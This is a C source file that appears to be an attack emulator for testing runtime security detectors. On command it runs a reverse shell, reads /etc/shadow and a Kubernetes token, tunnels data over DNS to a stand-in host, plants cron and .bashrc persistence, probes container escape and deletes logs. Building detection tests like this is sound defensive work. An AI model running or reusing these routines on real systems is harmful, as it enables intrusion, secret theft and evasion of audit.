/* The helper program of the attacked service. It does what the first line of its standard input says, so that its command
   line never changes: what shows is the act alone. Its everyday job is `nothing`. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#ifndef ALONE
#include <dlfcn.h>
#endif
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *self = "/usr/local/bin/worker";

static void must(int ok, const char *what) {
  if (ok) return;
  perror(what);
  exit(3);
}

static void copy(const char *from, const char *to, int mode) {
  char b[65536];
  int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
  must(in >= 0 && out >= 0, to);
  for (ssize_t n; (n = read(in, b, sizeof b)) > 0;) must(write(out, b, n) == n, "write");
  must(!fchmod(out, mode), "chmod");
  close(in);
  close(out);
}

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
  must(fd >= 0, path);
  must(write(fd, text, strlen(text)) >= 0, path);
  close(fd);
}

static void show(const char *path) {
  char b[256];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  (void)!read(fd, b, sizeof b);
  close(fd);
}

/* In the container's own network namespace: the address belongs to its loopback, nobody answers. */
static struct sockaddr_in peer(const char *address, int port) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, address, &a.sin_addr);
  return a;
}
static int call(const char *address, int port) {
  struct sockaddr_in a = peer(address, port);
  int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (connect(s, (void *)&a, sizeof a) == 0 || errno == EINPROGRESS) return s;
  return s;
}

static void run(const char *file, char *const argv[], char *const env[]) {
  pid_t child = fork();
  if (child == 0) {
    execve(file, argv, env);
    _exit(127);
  }
  waitpid(child, 0, 0);
}
static char *const none[] = {0};

static void dropped(void) {
  copy(self, "/tmp/x", 0755);
  char *argv[] = {"/tmp/x", "call", 0};
  run("/tmp/x", argv, none);
}

static void renamed_library(void) {
  copy("/lib/x86_64-linux-gnu/libm.so.6", "/var/cache/libupdate.so.1", 0644);
#ifndef ALONE /* the program without libraries cannot */
  must(dlopen("/var/cache/libupdate.so.1", RTLD_NOW) != 0, "dlopen");
#endif
}

static void preload(void) {
  copy("/lib/x86_64-linux-gnu/libm.so.6", "/var/cache/libhook.so", 0644);
  char *argv[] = {(char *)"worker", 0}, *env[] = {"LD_PRELOAD=/var/cache/libhook.so", 0};
  run(self, argv, env);
}

static void in_memory(void) {
  char b[65536];
  int from = open(self, O_RDONLY), fd = syscall(SYS_memfd_create, "kworker", 0);
  for (ssize_t n; (n = read(from, b, sizeof b)) > 0;) must(write(fd, b, n) == n, "write");
  char *argv[] = {"worker", "call", 0};
  if (fork() == 0) {
    syscall(SYS_execveat, fd, "", argv, none, AT_EMPTY_PATH);
    _exit(127);
  }
  wait(0);
}

static void fast_open(void) {
  struct sockaddr_in a = peer("203.0.113.7", 443);
  int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  (void)!sendto(s, "hi", 2, MSG_FASTOPEN, (void *)&a, sizeof a);
}

struct ring {
  int fd;
  unsigned *sq_tail, *sq_mask, *sq_array;
  struct io_uring_sqe *sqes;
};
static void ring_open(const char *path) {
  struct io_uring_params p = {0};
  struct ring r = {.fd = syscall(SYS_io_uring_setup, 4, &p)};
  must(r.fd >= 0, "io_uring_setup");
  char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_SQ_RING);
  r.sqes = mmap(0, p.sq_entries * sizeof *r.sqes, PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_SQES);
  r.sq_tail = (void *)(sq + p.sq_off.tail);
  r.sq_mask = (void *)(sq + p.sq_off.ring_mask);
  r.sq_array = (void *)(sq + p.sq_off.array);
  r.sqes[0] = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path, .open_flags = O_RDONLY};
  r.sq_array[*r.sq_tail & *r.sq_mask] = 0;
  __atomic_store_n(r.sq_tail, *r.sq_tail + 1, __ATOMIC_RELEASE);
  must(syscall(SYS_io_uring_enter, r.fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) >= 0, "io_uring_enter");
}

static void compat_open(void) {
  static char path[] = "/etc/shadow"; /* below 4 GiB: the program is not position independent */
  long fd;
  __asm__ volatile("int $0x80" : "=a"(fd) : "a"(5), "b"((uint32_t)(uintptr_t)path), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
}

/* A program of the attacker's under the name of a known one, below another root. */
static void twin(void) {
  mkdir("/var/cache/root", 0755);
  mkdir("/var/cache/root/usr", 0755);
  mkdir("/var/cache/root/usr/local", 0755);
  mkdir("/var/cache/root/usr/local/bin", 0755);
  copy("/usr/local/bin/static-worker", "/var/cache/root/usr/local/bin/worker", 0755);
  if (fork() == 0) {
    must(!chroot("/var/cache/root") && !chdir("/"), "chroot");
    char *argv[] = {"worker", 0};
    execve(self, argv, none);
    _exit(127);
  }
  wait(0);
}

static void shadow_link(void) {
  must(!link("/etc/shadow", "/var/cache/notes.txt"), "link");
  show("/var/cache/notes.txt");
}

static void hidden_token(void) {
  char name[128];
  for (int i = 0; i < 10000; i++) {
    snprintf(name, sizeof name, "/srv/data/f%05d.html", (i * 7919) % 10000);
    show(name);
    if (i == 5000) show("/var/run/secrets/kubernetes.io/serviceaccount/token");
  }
}

static void reverse_shell(void) {
  int s = call("203.0.113.7", 4444);
  if (fork() == 0) {
    int nowhere = open("/dev/null", O_RDWR);
    dup2(nowhere, 0);
    dup2(s, 1);
    dup2(s, 2);
    char *argv[] = {"sh", "-i", 0};
    execve("/bin/sh", argv, none);
    _exit(127);
  }
  wait(0);
}

static void miner(void) {
  copy("/usr/local/bin/static-worker", "/var/cache/xmrig", 0755);
  char *argv[] = {"/var/cache/xmrig", "-o", "stratum+tcp://pool.example:3333", 0};
  run("/var/cache/xmrig", argv, none);
}

static void scan(void) {
  char address[32];
  for (int i = 1; i <= 60; i++) {
    snprintf(address, sizeof address, "203.0.113.%d", i);
    close(call(address, 22));
    close(call(address, 6379));
  }
}

static void tunnel(const char *resolver) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = peer(resolver, 53);
  unsigned seed = 12345;
  for (int i = 0; i < 200; i++) {
    unsigned char q[512] = {i >> 8, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, *p = q + 12;
    *p++ = 30;
    for (int k = 0; k < 30; k++) {
      seed = seed * 1103515245 + 12345;
      *p++ = "abcdefghijklmnopqrstuvwxyz234567"[(seed >> 16) & 31];
    }
    memcpy(p, "\4exfl\7example\0\0\20\0\1", 18);
    (void)!sendto(s, q, p + 18 - q, 0, (void *)&a, sizeof a);
  }
}

static void persist(void) {
  put("/etc/cron.d/update", "* * * * * root /tmp/x\n");
  put("/root/.bashrc", "/tmp/x &\n");
  put("/etc/ld.so.preload", "");
}

static void escape(void) {
  (void)!unshare(CLONE_NEWNS);
  int fd = open("/proc/1/ns/mnt", O_RDONLY);
  (void)!setns(fd, 0);
  (void)!mount("none", "/mnt", "tmpfs", 0, "");
  show("/proc/1/environ");
  int core = open("/proc/sys/kernel/core_pattern", O_WRONLY);
  (void)core;
  struct sockaddr_un a = {.sun_family = AF_UNIX, .sun_path = "/var/run/docker.sock"};
  (void)!connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&a, sizeof a);
  (void)!ptrace(PTRACE_SEIZE, 1, 0, 0);
}

static void clear_logs(void) {
  (void)!truncate("/var/log/service.log", 0);
  (void)!unlink("/var/log/wtmp");
  (void)!unlink("/root/.bash_history");
}

int main(int argc, char **argv) {
  char job[64] = "nothing";
  if (argc > 1 && !strcmp(argv[1], "call")) return close(call("203.0.113.7", 4444));
  if (argc > 1) return 0;
  (void)!scanf("%63s", job);
  if (!strcmp(job, "dropped-binary")) dropped();
  else if (!strcmp(job, "renamed-library")) renamed_library();
  else if (!strcmp(job, "ld-preload")) preload();
  else if (!strcmp(job, "memfd")) in_memory();
  else if (!strcmp(job, "in-process-connect")) close(call("203.0.113.7", 443));
  else if (!strcmp(job, "fast-open")) fast_open();
  else if (!strcmp(job, "io-uring")) ring_open("/etc/shadow");
  else if (!strcmp(job, "int80")) compat_open();
  else if (!strcmp(job, "chroot-twin")) twin();
  else if (!strcmp(job, "shadow-link")) shadow_link();
  else if (!strcmp(job, "hidden-token")) hidden_token();
  else if (!strcmp(job, "reverse-shell")) reverse_shell();
  else if (!strcmp(job, "miner")) miner();
  else if (!strcmp(job, "scan")) scan();
  else if (!strcmp(job, "dns-tunnel")) tunnel("10.42.1.1");
  else if (!strcmp(job, "persistence")) persist();
  else if (!strcmp(job, "escape")) escape();
  else if (!strcmp(job, "log-clearing")) clear_logs();
  return 0;
}
